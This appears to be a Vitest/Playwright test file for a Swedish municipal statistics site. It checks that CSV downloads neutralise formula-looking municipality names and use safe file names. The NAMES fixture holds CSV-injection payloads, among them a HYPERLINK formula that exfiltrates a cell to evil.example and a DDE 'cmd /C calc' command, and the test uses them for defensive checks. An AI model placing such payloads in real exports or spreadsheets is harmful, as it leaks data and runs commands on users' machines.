// Safe downloads: a build on a data folder whose municipality names look like spreadsheet formulas.
// Every CSV download of the pages that list municipalities is read back: no cell may start a formula
// (=, +, -, @, tab, CR) unless it is a plain number, the names arrive neutralised with a leading
// apostrophe and otherwise intact, and every file name is made of safe characters only.
import {beforeAll, describe, expect, it} from "vitest";
import {execFileSync} from "node:child_process";
import {mkdtempSync, readFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join, resolve} from "node:path";
import type {Page} from "playwright-core";
import {open} from "./harness.ts";
import {settled, useSite} from "./site-fixture.ts";
import {dataFolder, DATA} from "../ingest/helpers.ts";

const ROOT = resolve(import.meta.dirname, "..", "..");
const NAMES: Record<string, string> = {
  "2303": '=HYPERLINK("http://evil.example/?x="&A1,"Ragunda")',
  "2305": "-2+3+cmd|' /C calc'!A0",
  "2309": "@SUM(1)",
  "2313": "+Strömsund",
  "2403": "@Bjurholm",
  "2409": "=1+1"
};
// SAFE_CSV_DIST: a site already built from this folder (while working on the test); else built here.
const prebuilt = process.env.SAFE_CSV_DIST;
const out = prebuilt ?? mkdtempSync(join(tmpdir(), "samverkan-formula-"));

beforeAll(() => {
  if (prebuilt) return;
  let kommuner = readFileSync(join(DATA, "kommuner.csv"), "utf8");
  for (const [code, name] of Object.entries(NAMES)) kommuner = kommuner.replace(new RegExp(`;${code};[^\\r\\n]*`), `;${code};"${name.replace(/"/g, '""')}"`);
  // A county that sorts before the agreement's (23) and has no data but its name: the pages must still
  // start in the agreement's county, and its municipality has no population (never "0 invånare").
  kommuner = kommuner.replace(/\n/, "\n01;Stockholms län;Region Stockholm;0180;Stockholm\n");
  const data = dataFolder({"kommuner.csv": kommuner});
  execFileSync(process.execPath, [join(ROOT, "node_modules/tsx/dist/cli.mjs"), "scripts/build.ts", "build"], {cwd: ROOT, env: {...process.env, SAMVERKAN_DATA: data, SAMVERKAN_OUT: out}, stdio: "pipe"});
}, 900_000);
const site = useSite(out);

/** RFC 4180 with ";": quotes around a field, "" inside. */
function parse(raw: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = raw.startsWith("\uFEFF") ? 1 : 0; i < raw.length; i++) {
    const c = raw[i];
    if (quoted) {
      if (c === '"' && raw[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === "" && !wasQuoted) (quoted = true), (wasQuoted = true);
    else if (c === ";") row.push(cell), (cell = ""), (wasQuoted = false);
    else if (c === "\r" && raw[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), (wasQuoted = false), i++;
    else cell += c;
  }
  return rows;
}

const PLAIN_NUMBER = /^[-+]?\d[\d \u00a0]*([.,]\d+)?( ?%)?$/;

async function downloads(page: Page): Promise<{name: string; rows: string[][]}[]> {
  // Some tables sit in closed <details>: open them, as a reader would.
  await page.evaluate(() => document.querySelectorAll("details").forEach((d) => (d.open = true)));
  const buttons = page.locator("button.csv-download");
  const found: {name: string; rows: string[][]}[] = [];
  for (let i = 0; i < (await buttons.count()); i++) {
    // Chromium drops an automatic download now and then when a page starts many in a row: click again.
    const click = async () => (await Promise.all([page.waitForEvent("download", {timeout: 8_000}), buttons.nth(i).click()]))[0];
    const d = await click().catch(async () => (await page.waitForTimeout(1_000), click()));
    found.push({name: d.suggestedFilename(), rows: parse(readFileSync((await d.path())!, "utf8"))});
  }
  return found;
}

describe("the agreement's county is where pages start, though another county comes first in the file", () => {
  for (const path of ["/", "/vaccination", "/seminarium/2025"]) {
    it(path, async () => {
      const {page, errors} = await open(site.browser, site.origin, path);
      await settled(page, "#county-select");
      expect(await page.locator("#county-select").inputValue()).toBe("23");
      expect(errors).toEqual([]);
      await page.context().close();
    });
  }
  it("a municipality without a population for the latest year has none, not 0 invånare", async () => {
    const {page, errors} = await open(site.browser, site.origin, "/kommun/0180");
    await settled(page, ".lead");
    const lead = await page.locator(".lead").first().innerText();
    expect(lead).toContain("Underlaget har ingen folkmängd för Stockholm");
    expect(lead).not.toMatch(/\b0 invånare/);
    expect(errors).toEqual([]);
    await page.context().close();
  });
});

describe("CSV downloads with formula-looking municipality names", () => {
  for (const path of ["/jamfor/23", "/kommun/2305", "/tillaggsbelopp?lan=23", "/medicinteknik/23", "/vaccination/23", "/skattevaxling/24", "/ersattningar/23"]) {
    it(path, async () => {
      const {page, errors} = await open(site.browser, site.origin, path);
      await settled(page);
      const files = await downloads(page);
      expect(files.length, "the page offers CSV downloads").toBeGreaterThan(0);
      const cells = files.flatMap((f) => f.rows.flat());
      for (const f of files) expect(f.name, "a safe file name").toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]*\.csv$/);
      const risky = cells.filter((c) => /^\s*[=+\-@\t\r]/.test(c) && !PLAIN_NUMBER.test(c.trim()));
      expect(risky, "cells that a spreadsheet would run").toEqual([]);
      // The names are there, readable, behind one apostrophe.
      const shown = Object.values(NAMES).filter((n) => cells.includes(`'${n}`));
      if (path !== "/vaccination/23") expect(shown.length, `names in ${files.map((f) => f.name).join(", ")}`).toBeGreaterThan(0);
      expect(errors).toEqual([]);
      await page.context().close();
    });
  }
});
